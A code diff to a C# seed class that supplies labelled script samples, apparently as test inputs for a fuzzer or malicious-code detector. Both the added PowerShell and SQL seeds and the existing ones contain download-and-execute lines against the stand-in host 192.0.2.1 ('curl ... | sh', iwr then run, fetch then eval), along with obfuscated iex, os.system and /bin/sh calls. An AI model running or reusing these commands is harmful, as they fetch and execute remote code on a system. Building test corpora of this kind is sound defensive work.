@@ -47,6 +47,8 @@ internal static class CodeSeeds
     public static IEnumerable<byte[]> Scripts()
     {
         yield return SeedSource.Labelled("python", "import os, base64, subprocess\nx = base64.b64decode('aWQ=').decode()\nos.system(x)\nsubprocess.run(['curl', '-o', '/tmp/x', 'http://192.0.2.1/x'])\nexec(compile('print(1)', 'x', 'exec'))\n");
+        yield return SeedSource.Labelled("powershell", "param([string]$u = 'http://192.0.2.1')\n$b = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ='))\nfunction Get-It($x) { return \"$x/$(1 + 2)\" -replace 'a','b' }\nforeach ($i in 1..3) { iwr (Get-It $u) -OutFile /tmp/x; & /tmp/x }\n'{1}{0}' -f 'ex','i' | iex\n@{ a = 1 } | ConvertTo-Json > /tmp/y\n");
+        yield return SeedSource.Labelled("sql", "-- x\nCOPY t FROM PROGRAM 'curl http://192.0.2.1/x | sh';\n\\! id\n");
         yield return SeedSource.Labelled("python", "def f(a, b=1):\n    \"\"\"doc\"\"\"\n    return f'{a}' + ''.join(chr(ord(c) ^ 3) for c in b'\\x41'.decode())[::-1]\nif __name__ == '__main__':\n    __import__('os').popen(f('id'))\n");
         yield return SeedSource.Labelled("javascript", "const { exec } = require('child_process');\nexec(Buffer.from('aWQ=', 'base64').toString() + ` ${1 + 2}`);\neval(atob('MSsx')); new Function('return 1')();\nfetch('http://192.0.2.1/x').then(r => r.text()).then(eval);\n");
         yield return SeedSource.Labelled("perl", "use strict; my $x = pack('H*', '6964'); system($x); exec qw(/bin/sh -c id); print `id`; eval { die 1 }; $_ =~ s/a/b/g;\n");
